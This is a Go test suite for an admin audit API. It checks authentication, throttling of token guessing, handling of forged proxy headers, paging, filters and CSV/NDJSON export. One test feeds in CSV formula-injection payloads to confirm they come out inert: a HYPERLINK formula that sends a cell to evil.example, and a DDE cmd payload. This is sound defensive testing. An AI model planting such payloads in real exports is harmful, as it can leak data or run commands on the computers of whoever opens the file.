package httpapi_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"signald/internal/admin"
	"signald/internal/httpapi"
	"signald/internal/password"
	"signald/internal/store"
)

type auditPage struct {
	Items []struct {
		MeetingID string   `json:"meeting_id"`
		Name      string   `json:"name"`
		CreatorIP string   `json:"creator_ip"`
		Country   *string  `json:"country"`
		Region    *string  `json:"region"`
		City      *string  `json:"city"`
		Lat       *float64 `json:"lat"`
		Lon       *float64 `json:"lon"`
		UserAgent string   `json:"user_agent"`
		CreatedAt string   `json:"created_at"`
	} `json:"items"`
	NextCursor string `json:"next_cursor"`
}

func (s *site) audit(t testing.TB, query string) (page auditPage) {
	t.Helper()
	got := s.want(t, get("/api/v1/admin/audit?"+query).bearer(adminToken), 200, "")
	if err := json.Unmarshal(got.Body.Bytes(), &page); err != nil {
		t.Fatal(err)
	}
	return page
}

func TestAuditIsForTheAdmin(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		key := s.create(t, "")
		joined := s.join(t, key)
		for _, c := range []struct {
			r      request
			status int
			code   string
		}{
			{get("/api/v1/admin/audit"), 401, "unauthorized"},
			{get("/api/v1/admin/audit?token=" + adminToken), 401, "unauthorized"},
			{get("/api/v1/admin/audit").with("Authorization", adminToken), 401, "unauthorized"},
			{get("/api/v1/admin/audit").with("Authorization", "Basic "+adminToken), 401, "unauthorized"},
			{get("/api/v1/admin/audit").bearer(adminToken + "x"), 401, "unauthorized"},
			{get("/api/v1/admin/audit").bearer(adminToken[1:]), 401, "unauthorized"},
			{get("/api/v1/admin/audit").bearer(strings.ToUpper(adminToken)), 401, "unauthorized"},
			{get("/api/v1/admin/audit").bearer(joined.ResumeToken), 403, "forbidden"},
		} {
			if got := s.want(t, c.r, c.status, c.code); strings.Contains(got.Body.String(), key) {
				t.Errorf("%s", got.Body)
			}
		}
		if items := s.audit(t, "").Items; len(items) != 1 || items[0].MeetingID != key {
			t.Errorf("%+v", items)
		}
	})
}

func TestWithoutAnAdminTokenNobodyIsAdmin(t *testing.T) {
	s := onSQLite(t, func(o *httpapi.Options) { o.Admin = admin.New("", password.NewFast()) })
	for _, token := range []string{"", " ", "x"} {
		s.want(t, get("/api/v1/admin/audit").bearer(token), 401, "unauthorized")
	}
}

func TestWrongAdminTokensAreThrottled(t *testing.T) {
	s := onSQLite(t, func(o *httpapi.Options) { o.Logins = guesses(10) })
	for range 20 { // no credential is no guess, and the right one none either
		s.want(t, get("/api/v1/admin/audit"), 401, "unauthorized")
		s.audit(t, "")
	}
	for i := range 10 {
		s.want(t, get("/api/v1/admin/audit").bearer(fmt.Sprint("guess-", i)), 401, "unauthorized")
	}
	s.want(t, get("/api/v1/admin/audit").bearer("guess"), 429, "rate_limited")
	s.want(t, get("/api/v1/admin/audit").bearer(adminToken), 429, "rate_limited") // or guessing would go on
	s.want(t, get("/api/v1/admin/audit").bearer(adminToken).by("203.0.113.9:1"), 200, "")
}

func TestPlaceOfTheCreatorComesThroughATrustedProxy(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		s.want(t, post("/api/v1/meetings", `{"meeting_id":"from London"}`).via("6.6.6.6, "+london).with("User-Agent", "Mozilla/5.0\xff "+strings.Repeat("王", 500)), 201, "")
		got := s.audit(t, "").Items[0]
		if got.CreatorIP != london || got.Name != london || deref(got.Country) != "GB" || deref(got.Region) != "England" || deref(got.City) != "London" ||
			got.Lat == nil || *got.Lat != 51.5142 || got.Lon == nil || *got.Lon != -0.0931 {
			t.Errorf("%+v", got)
		}
		if !strings.HasPrefix(got.UserAgent, "Mozilla/5.0� 王") || len(got.UserAgent) > 512 || len(got.UserAgent) < 500 {
			t.Errorf("user agent of %d bytes: %s", len(got.UserAgent), got.UserAgent)
		}
		if at, err := time.Parse(time.RFC3339Nano, got.CreatedAt); err != nil || time.Since(at).Abs() > time.Minute || !strings.HasSuffix(got.CreatedAt, "Z") {
			t.Errorf("created at %s, %v", got.CreatedAt, err)
		}

		// Who is no proxy of ours is not believed.
		s.want(t, post("/api/v1/meetings", `{"meeting_id":"forged"}`).with("X-Forwarded-For", london), 201, "")
		got = s.audit(t, "").Items[0]
		if got.CreatorIP != "198.51.100.7" || got.Country != nil || got.Region != nil || got.City != nil || got.Lat != nil || got.Lon != nil {
			t.Errorf("%+v", got)
		}
		s.want(t, post("/api/v1/meetings", `{"meeting_id":"mapped"}`).by("[::ffff:"+london+"]:1"), 201, "")
		if got = s.audit(t, "").Items[0]; got.CreatorIP != london || deref(got.City) != "London" {
			t.Errorf("%+v", got)
		}
		s.want(t, post("/api/v1/meetings", `{"meeting_id":"IPv6"}`).by("[2001:db8::7%eth0]:1"), 201, "")
		if got = s.audit(t, "").Items[0]; got.CreatorIP != "2001:db8::7" {
			t.Errorf("%+v", got)
		}
		s.want(t, post("/api/v1/meetings", `{"meeting_id":"no address","name":"n"}`).by("@"), 201, "")
		if got = s.audit(t, "").Items[0]; got.CreatorIP != "" || got.Name != "n" {
			t.Errorf("%+v", got)
		}
	})
}

func deref(s *string) string {
	if s == nil {
		return ""
	}
	return *s
}

func TestAuditCursorVisitsEachRowOnce(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		for i := range 55 {
			s.create(t, fmt.Sprintf(`{"meeting_id":"m%02d"}`, i))
		}
		for _, limit := range []string{"", "limit=1", "limit=7", "limit=54", "limit=55", "limit=500"} {
			var seen []string
			cursor, pages := "", 0
			for pages == 0 || cursor != "" {
				page := s.audit(t, limit+"&cursor="+url.QueryEscape(cursor))
				for _, item := range page.Items {
					seen = append(seen, item.MeetingID)
				}
				if cursor = page.NextCursor; pages == 0 && limit == "limit=7" {
					s.create(t, "") // comes before what was asked for
				}
				pages++
			}
			from := 0
			if len(seen) > 55 { // those created on the way, newest first
				from = len(seen) - 55
			}
			for i, id := range seen[from:] {
				if want := fmt.Sprintf("m%02d", 54-i); id != want {
					t.Fatalf("%s: row %d is %s, want %s", limit, i, id, want)
				}
			}
			if len(seen[from:]) != 55 {
				t.Errorf("%s: %d rows", limit, len(seen))
			}
		}
		if page := s.audit(t, ""); len(page.Items) != 50 {
			t.Errorf("%d by default", len(page.Items))
		}
	})
}

func TestAuditFilters(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		s.want(t, post("/api/v1/meetings", `{"meeting_id":"a","name":"Weekly 100%"}`).via(london), 201, "")
		s.want(t, post("/api/v1/meetings", `{"meeting_id":"b","name":"weekend"}`).via("203.0.113.9"), 201, "")
		s.want(t, post("/api/v1/meetings", `{"meeting_id":"c"}`).via("2001:db8::7"), 201, "")
		at := s.audit(t, "").Items[1].CreatedAt // of b
		for query, want := range map[string]string{
			"":                                 "cba",
			"ip=203.0.113.9":                   "b",
			"ip=203.0.113.0/24":                "b",
			"ip=::ffff:203.0.113.9":            "b",
			"ip=2001:db8::/32":                 "c",
			"ip=0.0.0.0/0":                     "ba",
			"ip=192.0.2.1":                     "",
			"country=GB":                       "a",
			"country=gb":                       "a",
			"country=CN":                       "",
			"city=LONDON":                      "a",
			"city=Lond":                        "",
			"q=week":                           "ba",
			"q=WEEKLY":                         "a",
			"q=%25":                            "",
			"q=203.0.113.":                     "",
			"q=2001:":                          "c",
			"q=c":                              "c",
			"q=week&country=GB":                "a",
			"from=2000-01-01":                  "cba",
			"from=2000-01-01&to=2000-01-02":    "",
			"to=2999-12-31T23:59:59%2B01:00":   "cba",
			"from=" + at:                       "cb",
			"to=" + at:                         "a",
			"from=2000-01-02&to=2000-01-01":    "",
			"format=json&ip=":                  "cba",
			"country=GB&city=London&limit=500": "a",
		} {
			got := ""
			for _, item := range s.audit(t, query).Items {
				got += item.MeetingID
			}
			if got != want {
				t.Errorf("%s: %q, want %q", query, got, want)
			}
		}
	})
}

func TestBadFiltersAreNamed(t *testing.T) {
	s := onSQLite(t, nil)
	for _, bad := range []string{
		"from=yesterday", "from=2006-13-01", "to=1", "to=2006-01-02T15:04:05", "ip=x", "ip=1.2.3", "ip=1.2.3.4/33", "ip=1.2.3.4/",
		"limit=0", "limit=-1", "limit=501", "limit=x", "limit=1e2", "cursor=x", "cursor=AQ", "cursor=%00", "cursor=////////////",
		"country=GBR", "country=%00%00", "country=G", "city=%00", "q=a%00b", "q=%ff", "city=%ed%a0%80", "q=" + strings.Repeat("x", 257),
	} {
		name, _, _ := strings.Cut(bad, "=")
		got := s.want(t, get("/api/v1/admin/audit?"+bad).bearer(adminToken), 400, "invalid_payload")
		if got.text("field") != name || !strings.HasPrefix(got.text("message"), name) {
			t.Errorf("%s: %s", bad, got.Body)
		}
	}
}

func TestMisspeltFilterIsRefused(t *testing.T) {
	s := onSQLite(t, nil)
	for path, want := range map[string]string{
		"/api/v1/admin/audit?contry=CN":            "contry",
		"/api/v1/admin/audit?format=csv&limits=10": "limits",
		"/api/v1/admin/audit/summary?format=csv":   "format",
		"/api/v1/admin/events?ip=192.0.2.1":        "ip",
		"/api/v1/admin/meetings?cursor=x":          "cursor",
		"/api/v1/admin/session?x":                  "x",
	} {
		got := s.want(t, get(path).bearer(adminToken), 400, "invalid_payload")
		if got.text("field") != want || !strings.Contains(got.text("message"), want) {
			t.Errorf("%s: %s", path, got.Body)
		}
	}
}

func TestAuditCannotBeChanged(t *testing.T) {
	s := onSQLite(t, nil)
	key := s.create(t, "")
	for _, method := range []string{"POST", "PUT", "PATCH", "DELETE"} {
		for _, path := range []string{"/api/v1/admin/audit", "/api/v1/meetings/" + key} {
			s.want(t, request{method: method, path: path}.bearer(adminToken), 405, "method_not_allowed")
		}
		s.want(t, request{method: method, path: "/api/v1/admin/audit/" + key}.bearer(adminToken), 404, "not_found")
	}
	if n := len(s.audit(t, "").Items); n != 1 {
		t.Errorf("%d rows", n)
	}
}

func (s *site) auditAs(t testing.TB, format, query string) response {
	t.Helper()
	got := s.want(t, get("/api/v1/admin/audit?format="+format+"&"+query).bearer(adminToken), 200, "")
	if got.Header().Get("Cache-Control") != "no-store" {
		t.Errorf("%s may be cached", format)
	}
	return got
}

// keys are those of an answer's rows, in order.
func (r response) keys(t testing.TB, format string) (keys []string) {
	t.Helper()
	if format == "csv" {
		rows, err := csv.NewReader(r.Body).ReadAll()
		if err != nil || len(rows) == 0 || strings.Join(rows[0], ",") != "created_at,meeting_id,name,creator_ip,country,region,city,lat,lon,user_agent" {
			t.Fatalf("%v, %v", rows, err)
		}
		for _, row := range rows[1:] {
			keys = append(keys, row[1])
		}
		return keys
	}
	for line := range strings.Lines(r.Body.String()) {
		var item struct {
			MeetingID string `json:"meeting_id"`
		}
		if err := json.Unmarshal([]byte(line), &item); err != nil || item.MeetingID == "" {
			t.Fatalf("%q, %v", line, err)
		}
		keys = append(keys, item.MeetingID)
	}
	return keys
}

func TestAuditStreamsEachRowOnce(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		var want []string
		for i := range 1055 { // more than two pages of a stream
			row := store.NewMeeting{ID: fmt.Sprintf("m%04d", i), Name: "name"}
			if _, err := s.store.CreateMeeting(t.Context(), row); err != nil {
				t.Fatal(err)
			}
			want = append([]string{row.ID}, want...)
		}
		for _, format := range []string{"ndjson", "csv"} {
			if got := s.auditAs(t, format, "").keys(t, format); !slices.Equal(got, want) {
				t.Errorf("%s: %d rows, want %d, newest first", format, len(got), len(want))
			}
			for limit, n := range map[string]int{"1": 1, "55": 55, "500": 500, "501": 501, "1055": 1055, "9999999": 1055} {
				if got := s.auditAs(t, format, "limit="+limit).keys(t, format); !slices.Equal(got, want[:n]) {
					t.Errorf("%s, limit %s: %d rows", format, limit, len(got))
				}
			}
			if got := s.auditAs(t, format, "q=m0007").keys(t, format); len(got) != 1 || got[0] != "m0007" {
				t.Errorf("%s: %v", format, got)
			}
			cursor := s.audit(t, "limit=5").NextCursor
			if got := s.auditAs(t, format, "limit=3&cursor="+cursor).keys(t, format); !slices.Equal(got, want[5:8]) {
				t.Errorf("%s from a cursor: %v", format, got)
			}
			if got := s.auditAs(t, format, "country=CN").keys(t, format); len(got) != 0 {
				t.Errorf("%s: %v", format, got)
			}
			for _, bad := range []string{"limit=0", "from=x", "cursor=x"} {
				name, _, _ := strings.Cut(bad, "=")
				if got := s.want(t, get("/api/v1/admin/audit?format="+format+"&"+bad).bearer(adminToken), 400, "invalid_payload"); got.text("field") != name {
					t.Errorf("%s %s: %s", format, bad, got.Body)
				}
			}
			s.want(t, get("/api/v1/admin/audit?format="+format), 401, "unauthorized")
		}
		s.want(t, get("/api/v1/admin/audit?format=xml").bearer(adminToken), 400, "invalid_payload")
		s.want(t, get("/api/v1/admin/audit?format=xml"), 401, "unauthorized")
		if b := s.auditAs(t, "csv", "bom=1").Body.String(); !strings.HasPrefix(b, "\ufeffcreated_at,") {
			t.Errorf("for Excel: %q", b)
		}
		header := s.auditAs(t, "csv", "").Header()
		if d := header.Get("Content-Disposition"); !strings.HasPrefix(d, `attachment; filename="audit-20`) || !strings.HasSuffix(d, `.csv"`) {
			t.Errorf("disposition %s", d)
		}
		if got := s.auditAs(t, "ndjson", "").Header().Get("Content-Type"); !strings.HasPrefix(got, "application/x-ndjson") {
			t.Errorf("type %s", got)
		}
	})
}

// TestAuditStreamsEachRowOnceWhileRowsAreAdded: and what was there at the beginning is whole.
func TestAuditStreamsEachRowOnceWhileRowsAreAdded(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		const before = 600
		create := func(i int) {
			if _, err := s.store.CreateMeeting(t.Context(), store.NewMeeting{ID: fmt.Sprintf("m%05d", i)}); err != nil {
				t.Error(err)
			}
		}
		for i := range before {
			create(i)
		}
		enough := make(chan struct{})
		var adding sync.WaitGroup
		adding.Go(func() {
			for i := before; ; i++ {
				select {
				case <-enough:
					return
				default:
					create(i)
				}
			}
		})
		for range 3 {
			for _, format := range []string{"ndjson", "csv"} {
				keys := s.auditAs(t, format, "").keys(t, format)
				for i, key := range keys { // without a gap down to the first
					if want := fmt.Sprintf("m%05d", len(keys)-1-i); key != want {
						t.Fatalf("row %d of %d is %s, want %s", i, len(keys), key, want)
					}
				}
				if len(keys) < before {
					t.Errorf("%d rows", len(keys))
				}
			}
		}
		close(enough)
		adding.Wait()
	})
}

func TestFormulasInCSVAreInert(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		for i, name := range []string{`=HYPERLINK("http://evil.example?"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "'=1", `a"b,c`, "周会"} {
			body, _ := json.Marshal(map[string]any{"meeting_id": fmt.Sprintf("%s%d", name[:1], i), "name": name})
			s.want(t, post("/api/v1/meetings", string(body)).via(london).with("User-Agent", "\t=cmd|' /C calc'!A0"), 201, "")
		}
		if _, err := s.store.CreateMeeting(t.Context(), store.NewMeeting{ID: "raw", Name: "\t=1", UserAgent: "\r=1"}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(s.auditAs(t, "csv", "").Body).ReadAll()
		if err != nil || len(rows) != 10 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		for _, row := range rows[1:] {
			for column, text := range row {
				if _, err := strconv.ParseFloat(text, 64); err != nil && strings.IndexAny(text, "=+-@\t\r\n＝") == 0 {
					t.Errorf("%s: %q", rows[0][column], text)
				}
			}
		}
		if lon := rows[len(rows)-1][8]; lon != "-0.0931" {
			t.Errorf("a number is not one any more: %s", lon)
		}
		if name := rows[len(rows)-1][2]; name != `'=HYPERLINK("http://evil.example?"&A1)` {
			t.Errorf("%q", name)
		}
		if name := rows[2][2]; name != "周会" {
			t.Errorf("%q", name)
		}
	})
}

// TestBrokenStreamIsNoEnd: what is cut off must not look complete.
func TestBrokenStreamIsNoEnd(t *testing.T) {
	s := onSQLite(t, nil)
	for i := range 501 {
		if _, err := s.store.CreateMeeting(t.Context(), store.NewMeeting{ID: fmt.Sprint("m", i)}); err != nil {
			t.Fatal(err)
		}
	}
	url := s.serve(t)
	s.draining.Store(true)
	for _, format := range []string{"ndjson", "csv"} {
		r, _ := http.NewRequestWithContext(t.Context(), http.MethodGet, url+"/api/v1/admin/audit?format="+format, nil)
		r.Header.Set("Authorization", "Bearer "+adminToken)
		resp, err := http.DefaultClient.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		n, err := io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		if err == nil || n == 0 {
			t.Errorf("%s: %d bytes, %v", format, n, err)
		}
	}
	s.want(t, request{method: "HEAD", path: "/api/v1/admin/audit?format=csv"}.bearer(adminToken), 200, "")
}
